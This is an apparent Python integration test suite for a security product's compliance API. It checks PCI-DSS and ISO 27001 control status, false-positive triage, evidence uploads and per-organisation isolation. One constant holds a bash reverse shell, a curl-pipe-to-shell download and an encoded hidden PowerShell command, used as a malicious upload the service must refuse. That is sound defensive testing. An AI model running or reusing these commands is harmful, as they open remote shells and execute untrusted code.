"""Compliance posture through the gateway and report-service, which reads threat-service's records and
scan-service's scans over mutual TLS with the caller's owner (the done-when of issue 14).

Records are written as the finding pipeline writes them (``MongoFindingLedger.record``); triage and
everything else is the public API.
"""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import Iterator
from datetime import UTC, datetime

import httpx2 as httpx
import nats
import pytest
from pymongo import AsyncMongoClient

from rampart.lib.catalogue import subjects
from rampart.lib.store import Document
from rampart_devtools.devstack import DevStack
from rampart_threat.findings.ledger import MongoFindingLedger
from rampart_threat.findings.model import Finding, FindingType, Severity
from rampart_threat.findings.ports import Sighting
from tests.integration.conftest import assert_refused, bearer, eventually, register

REVERSE_SHELL = (
    b"#notes\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n"
    b"curl -s http://192.0.2.44/x.sh | sh\n"
    b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n"
)


@pytest.fixture(scope="module")
def api_module(stack: DevStack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=stack.gateway_url, timeout=60) as client:
        yield client


async def write(stack: DevStack, finding: Finding) -> Sighting:
    client: AsyncMongoClient[Document] = AsyncMongoClient(stack.mongodb_url, tz_aware=True)
    try:
        return await MongoFindingLedger(client["rampart_threat"]).record(finding)
    finally:
        await client.close()


def record(stack: DevStack, finding: Finding) -> Sighting:
    return asyncio.run(write(stack, finding))


def weak_ciphers(org_id: str) -> Finding:
    return Finding(
        org_id=org_id,
        scan_id="scan_compliance_1",
        live=True,
        host="127.0.0.1",
        port=8443,
        protocol="tcp",
        type=FindingType.MISCONFIGURATION,
        subject="RMP-TLS-006",
        title="Weak TLS cipher suites accepted",
        severity=Severity.HIGH,
        detected_at=datetime.now(UTC),
        remediation="disable RC4, 3DES and export suites",
        cwe=("CWE-327",),
        evidence={"tls.weak_ciphers": "TLS_RSA_WITH_RC4_128_SHA"},
    )


def control(api: httpx.Client, key: dict[str, str], control_id: str) -> dict:
    reply = api.get(f"/api/v1/controls/{control_id}", headers=key)
    assert reply.status_code == 200, reply.text
    return reply.json()["data"]


def test_a_finding_fails_a_pci_and_an_iso_control_and_marking_it_a_false_positive_restores_them(
    stack: DevStack, api_module: httpx.Client
) -> None:
    owner, stranger = register(api_module), register(api_module)
    key = bearer(owner["api_key"])
    baseline = api_module.get("/api/v1/compliance", headers=key)
    assert baseline.status_code == 200, baseline.text
    sighting = record(stack, weak_ciphers(owner["org_id"]))

    posture = api_module.get("/api/v1/compliance", params={"frameworks": "pci-dss,iso27001"}, headers=key)
    assert posture.status_code == 200, posture.text
    gaps = {f["framework"]: {c["id"]: c for c in f["gaps"]} for f in posture.json()["data"]["frameworks"]}
    for framework, control_id in (("pci-dss", "pci-dss:4.2.1"), ("iso27001", "iso27001:A.8.24")):
        gap = gaps[framework][control_id]["gaps"][0]
        assert (gap["vulnerability_id"], gap["host"], gap["port"]) == (
            sighting.vulnerability_id,
            "127.0.0.1",
            8443,
        )
        assert gap["remediation"] == "disable RC4, 3DES and export suites"
    assert control(api_module, bearer(stranger["api_key"]), "pci-dss:4.2.1")["status"] == "not_assessed"

    triaged = api_module.patch(
        f"/api/v1/vulnerabilities/{sighting.vulnerability_id}",
        json={"status": "false_positive", "note": "test endpoint"},
        headers=key,
    )
    assert triaged.status_code == 200, triaged.text
    for control_id in ("pci-dss:4.2.1", "iso27001:A.8.24"):
        restored = control(api_module, key, control_id)
        assert restored["status"] == "passing"
        assert [e["vulnerability_id"] for e in restored["excluded"]] == [sighting.vulnerability_id]
        assert [(h["actor"], h["from_status"], h["to_status"]) for h in restored["history"]] == [
            ("rampart", "not_assessed", "failing"),  # the baseline had no asset yet
            ("rampart", "failing", "passing"),
        ]
    listed = api_module.get("/api/v1/controls", params={"framework": "pci-dss", "per_page": 3}, headers=key)
    page = listed.json()["data"]
    assert (page["total"], len(page["items"])) == (11, 3)
    assert set(page["items"][0]) >= {"id", "name", "status", "frameworks", "evidence_count"}


def test_manual_status_and_evidence_stay_with_their_organisation(
    stack: DevStack, api_module: httpx.Client
) -> None:
    owner, stranger = register(api_module), register(api_module)
    key = bearer(owner["api_key"])
    path = "/api/v1/controls/pci-dss:12.10.1"
    changed = api_module.patch(
        path, json={"status": "passing", "note": "IR plan v3", "owner": "usr_carol"}, headers=key
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["data"]["status"] == "passing"

    pdf = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    uploaded = api_module.post(
        f"{path}/evidence", params={"filename": "ir-plan.pdf"}, content=pdf, headers=key
    )
    assert uploaded.status_code == 201, uploaded.text
    assert uploaded.json()["data"]["sha256"] == hashlib.sha256(pdf).hexdigest()
    assert uploaded.json()["data"]["content_type"] == "application/pdf"
    refused = api_module.post(
        f"{path}/evidence", params={"filename": "notes.txt"}, content=REVERSE_SHELL, headers=key
    )
    assert_refused(refused, 422, "EVIDENCE_MALICIOUS")

    mine = control(api_module, key, "pci-dss:12.10.1")
    assert (mine["evidence_count"], mine["attestation"]["owner"]) == (1, "usr_carol")
    theirs = control(api_module, bearer(stranger["api_key"]), "pci-dss:12.10.1")
    assert (theirs["status"], theirs["evidence_count"], theirs["attestation"]) == ("manual", 0, None)


async def test_a_control_status_change_is_published_on_the_compliance_stream(stack: DevStack) -> None:
    """compliance.changed reaches COMPLIANCE_EVENTS through report-service's outbox (read as report,
    which owns the stream; consumers of it, such as webhooks, are another change)."""
    nc = await nats.connect(stack.nats_url, **stack.certs("report").nats_options())
    try:
        js = nc.jetstream()

        async def messages() -> int:
            return int((await js.stream_info(subjects.COMPLIANCE_EVENTS_STREAM)).state.messages)

        before = await eventually(messages, lambda n: n >= 0)
        with httpx.Client(base_url=stack.gateway_url, timeout=60) as api:
            owner = register(api)
            key = bearer(owner["api_key"])
            assert api.get("/api/v1/compliance", headers=key).status_code == 200  # the baseline
            await write(stack, weak_ciphers(owner["org_id"]))
            assert api.get("/api/v1/compliance", headers=key).status_code == 200
        # every control the finding or its host now decides changed from not_assessed
        await eventually(messages, lambda n: n >= before + 2)
    finally:
        await nc.close()
